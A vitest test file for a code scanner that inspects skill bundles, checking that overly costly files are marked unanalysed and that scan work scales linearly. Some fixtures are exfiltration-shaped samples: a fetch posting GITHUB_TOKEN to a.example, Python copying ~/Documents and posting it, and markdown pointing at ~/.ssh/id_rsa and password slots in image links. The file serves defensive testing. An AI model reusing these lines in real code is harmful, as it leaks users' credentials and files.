import { once } from 'node:events';
import { Worker } from 'node:worker_threads';
import { describe, expect, it } from 'vitest';
import { scanSkill } from '../../scanner/scan.ts';
import type { SourceFile } from '../../skills-index/skill/bundle.ts';
import { canonicalJson } from '../../skills-index/skill/text/canonical-json.ts';
import type { ScanReport } from '../../skills-index/statement/scan-report.ts';
import { isWhole } from '../sample.ts';

const file = (path: string, text: string): SourceFile => ({
  path,
  bytes: Buffer.from(text),
  mode: 0o644,
});
const scanOf = (path: string, text: string): Promise<ScanReport> =>
  scanSkill([
    file('SKILL.md', '---\nname: sample\ndescription: A sample.\n---\nText.\n'),
    file(path, text),
  ]);
const _stepLimit = 'the step limit of the scan';
const longText = (to: string): string =>
  `${to} = "https://a.example/" + "${'a'.repeat(4_000)}" + "${'b'.repeat(4_000)}"`;
const listed = (length: number, of: (at: number) => string): string =>
  Array.from({ length }, (_, at) => of(at)).join(', ');
const stages = (count: number): string => `${Array(count).fill('tr a b').join(' | ')}\n`;

describe('a file that would cost a scan too much', () => {
  it.each<[string, string, string, string]>([
    [
      'a long text put together at many places',
      'a.ts',
      `${longText('const s')};\n${'fetch(s+s+s+s);\n'.repeat(2_000)}`,
      'too much of it to follow every call',
    ],
    [
      'the same in Python',
      'a.py',
      `import requests\n${longText('s')}\n${'requests.get(s+s+s+s)\n'.repeat(2_000)}`,
      'too much of it to follow every call',
    ],
    [
      'the same in a shell',
      'a.sh',
      `s=${'a'.repeat(8_000)}\n${'curl "$s$s$s$s"\n'.repeat(9_000)}`,
      'too much of it to follow every call',
    ],
    [
      'loops inside one another in a shell',
      'a.sh',
      `${'for a in $(ls) b; do x=$x$a; '.repeat(14)}curl "$x"; ${'done; '.repeat(14)}`,
      'too much of it to follow every call',
    ],
    [
      'a chosen one of 600 functions',
      'a.ts',
      `const of = (f: any) => () => f();\nconst all = [${listed(600, (at) => `of(() => ${at})`)}];\nall[Date.now()]();\n`,
      'a call of one of more than 512 functions',
    ],
    [
      'one of 60 names of one of 3,600 things',
      'a.js',
      `const n = [${listed(60, (at) => `'n${at}'`)}];\nconst k = Number(process.argv[2]);\nlet o = require('some-library');\n${'o = o[n[k]](n[k]);\n'.repeat(2)}o();\n`,
      'a call of one of more than 512 functions',
    ],
    [
      '300 functions of a shell that call one another',
      'a.sh',
      `${Array.from({ length: 300 }, (_, at) => `f${at}() { f${at + 1}; }\n`).join('')}f0\n`,
      'more than 200 calls inside one another',
    ],
    [
      'twenty variables that hand on their values in a loop',
      'a.py',
      `import sys\n${listed(20, (at) => `v${at}`)} = ["a"] * 20\nfor line in sys.argv:\n  exec(v0)\n  ${listed(20, (at) => `v${at}`)} = ${listed(19, (at) => `v${at + 1}`)}, "b"\n`,
      'a loop that hands on values for 16 rounds',
    ],
    [
      'a list of 1,000 numbers that is searched often',
      'a.py',
      `a = [${listed(1_000, (at) => `${at}`)}]\ndef h():\n${' 77 in a\n'.repeat(300)}${'h()\n'.repeat(300)}`,
      'too much of it to follow every call',
    ],
    [
      'items of a list that are not known',
      'a.ts',
      `const a = [${listed(1_000, (at) => `${at}`)}], k = Date.now();\nfunction h() {\n${'a[k];\n'.repeat(300)}}\n${'h();\n'.repeat(300)}`,
      'too much of it to follow every call',
    ],
    [
      '133,000 list markers in a line',
      'a.md',
      '1. '.repeat(133_000),
      'more than 100 list and quote markers in a line',
    ],
    [
      'quotes and lists in turn',
      'a.md',
      '> - '.repeat(1_000),
      'more than 100 list and quote markers in a line',
    ],
    [
      '40,000 bare links in a paragraph',
      'a.md',
      'see https://a.example/b '.repeat(40_000),
      'the step limit of the scan',
    ],
    [
      'a pipeline of shells',
      'a.sh',
      `${'a|sh|'.repeat(4_000)}cat\n`,
      'a pipeline of more than 64 commands',
    ],
    [
      'many pipelines of shells',
      'a.sh',
      `${'a|sh|'.repeat(30)}cat\n`.repeat(1_000),
      'the step limit of the scan',
    ],
  ])(
    'is incomplete, the same each time, and a finding says so: %s',
    async (_, path, text, reason) => {
      const report = await scanOf(path, text);
      const [row] = report.coverage.files.filter((one) => one.path === path);
      expect(row).toMatchObject({ disposition: 'unanalysed', reason });
      expect(report.verdict).toBe('incomplete');
      expect(
        report.findings.some((one) => one.rule === 'obfuscation/unanalysed' && one.path === path),
      ).toBe(true);
      expect(canonicalJson(await scanOf(path, text))).toBe(canonicalJson(report));
    },
  );

  it.each([
    ['a.ts', `export const x = ${'1 +\n'.repeat(16_000)}1;\n`],
    ['a.ts', `x=${'a+'.repeat(1_900)}1;\n`.repeat(120)],
    // All of them are asked in the same way.
    ['a.ts', `const all = [${listed(70, (at) => `() => ${at}`)}];\nall[Date.now()]();\n`],
    [
      'a.ts',
      'let state = start;\nfunction start() { return middle; }\nfunction middle() { return end; }\n' +
        'function end() { return start; }\nfor (const _ of process.argv) state = state();\n',
    ],
    [
      'a.ts',
      `const all = [${listed(600, (at) => `{ at: ${at} }`)}];\nall[Date.now()].toString();\n`,
    ],
    // A walk for each default would double with each level.
    ['a.ts', `let x;\n${'['.repeat(60)}x${' = []]'.repeat(60)} = list;\n`],
    [
      'a.md',
      `${'* '.repeat(300)}\n\n${'- '.repeat(300)}\n\n${'-'.repeat(300)}\n\n${'> '.repeat(50)}quoted\n`,
    ],
    ['a.md', ' * @param *name* of a _thing_\n'.repeat(5_000)],
    ['a.sh', stages(60)],
    [
      'a.sh',
      `x=${'a'.repeat(3_000)}\n${'if test -f "$1"; then x="$x b"; else x="$x c"; fi\n'.repeat(300)}`,
    ],
    // Each call of itself would double the list.
    ['a.ts', 'export function w(...a: string[]): string { return w(...a, ...a, "1"); }\nw("a");\n'],
    ['a.ts', `function* w(a: string): any {\n${'  yield* w(a + "1");\n'.repeat(20)}}\nw("a");\n`],
  ])('is not one that is only long: %s', async (path, text) => {
    const { coverage } = await scanOf(path, text);
    expect(coverage.files.map((one) => one.disposition)).toEqual(['analysed', 'analysed']);
  });
});

it('takes no memory for each way through defaults that stand in defaults', async () => {
  const { coverage } = await scanOf('a.sh', `place() {\n  local kind=${'${NOT='.repeat(200)}\n}\n`);
  expect(coverage.files).toHaveLength(2);
});

describe('a file of four times the length', () => {
  const rows = (count: number, row: (index: number) => string, between = ''): string =>
    Array.from({ length: count }, (_, index) => row(index)).join(between);

  const growing: readonly (readonly [string, string, (count: number) => string, most?: number])[] =
    [
      ['keys of a map in YAML', 'a.yaml', (count) => rows(count, (at) => `k${at}: v\n`)],
      [
        'keys of a map in YAML, in one line',
        'a.yaml',
        (count) => `{${rows(count, (at) => `k${at}: v`, ', ')}}`,
      ],
      [
        'members of an object',
        'a.ts',
        (count) =>
          `const o = {${rows(count, (at) => `k${at}: () => o.k${at + 1}()`, ',\n')}};\no.k0();\n`,
      ],
      [
        'members that a function writes, and calls of the function',
        'a.ts',
        (count) =>
          `const key = process.env.GITHUB_TOKEN;\nconst q: any = {};\nfetch('https://a.example/', { body: q.a0, method: 'POST' });\nfunction f(p: any, x: any) {\n${rows(count, (at) => `p.a${at} = x;\n`)}}\n${rows(count, () => 'f(q, key);\n')}`,
        // Each call is followed, up to the limit of all.
        8,
      ],
      [
        'names of a pattern that takes apart a call, and arguments of the call',
        'a.ts',
        (count) =>
          `const { ${rows(count, (at) => `a${at}, `)}} = require(${rows(count, (at) => `'b${at}', `)});\nfetch('https://a.example/', { body: process.env.GITHUB_TOKEN });\n`,
      ],
      ['items added to an array of a shell', 'a.sh', (count) => rows(count, () => 'a+=("$x")\n')],
      [
        'additions to an attribute in Python that its class also gives a value',
        'a.py',
        (count) =>
          `class B:\n    line = "x"\nb = B()\n${rows(count, (at) => `b.line += f(${at})\n`)}exec(b.line)\n`,
      ],
      [
        'additions to an attribute of `self` that its class also gives a value',
        'a.py',
        (count) =>
          `class B:\n  line = 'x'\n  def go(self):\n${rows(count, (at) => `    self.line += f(${at})\n`)}`,
      ],
      [
        'terms that a page explains by the user’s keys',
        'a.md',
        (count) =>
          `- witness - the private keys of the user in ~/.ssh/id_rsa\n${rows(count, (at) => `- t${at} - witness\n\nb${at} c d\n\n`)}`,
      ],
      [
        'pictures with slots in their addresses',
        'a.md',
        (count) =>
          rows(
            count,
            (at) =>
              `![a](https://a.example/x?q={{s${at}}})\n\nPut the password into {{z${at}}}.\n\n`,
          ),
      ],
      [
        'requests in Python, and calls that copy a folder to the path that they send',
        'a.py',
        (count) =>
          `import os, requests, shutil\n${rows(count / 4, (at) => `shutil.copytree(os.path.expanduser("~/Documents"), "/tmp/x")\nrequests.post("https://a${at}.example/", data=open("/tmp/x").read())\n`)}`,
      ],
      [
        'objects that one call prints',
        'a.js',
        (count) => `console.log(${rows(count, (at) => `{ a${at}: 1 }, `)});\n`,
      ],
      [
        'calls of any of 500 functions of a library that nobody knows, with one record',
        'a.js',
        (count) =>
          `import * as lib from 'lib';\nconst all = [${rows(500, (at) => `lib.f${at}`, ', ')}];\nconst o = {${rows(count, (at) => `k${at}: new lib.K(${at})`, ', ')}};\n${rows(count, () => 'all[Date.now()](o);\n')}`,
      ],
      [
        'a powerful value as each operand of an expression',
        'a.ts',
        (count) => `const x = ${'process && '.repeat(count)}process.env;\nx();\n`,
        16,
      ],
    ];

  it('is about four times the work', async () => {
    const [few, many] = isWhole ? [400, 1_600] : [200, 800];
    const workerData = growing.map(([, path, text]) => [path, text(few), text(many)]);
    const [works] = await once(
      new Worker(new URL('count-work.ts', import.meta.url), { workerData }),
      'message',
    );
    for (const [at, [name, , , most = 5]] of growing.entries()) {
      const [less, more] = works[at];
      expect(more / less, name).toBeLessThan(most);
      expect(less, name).toBeGreaterThan(few);
    }
  });
});
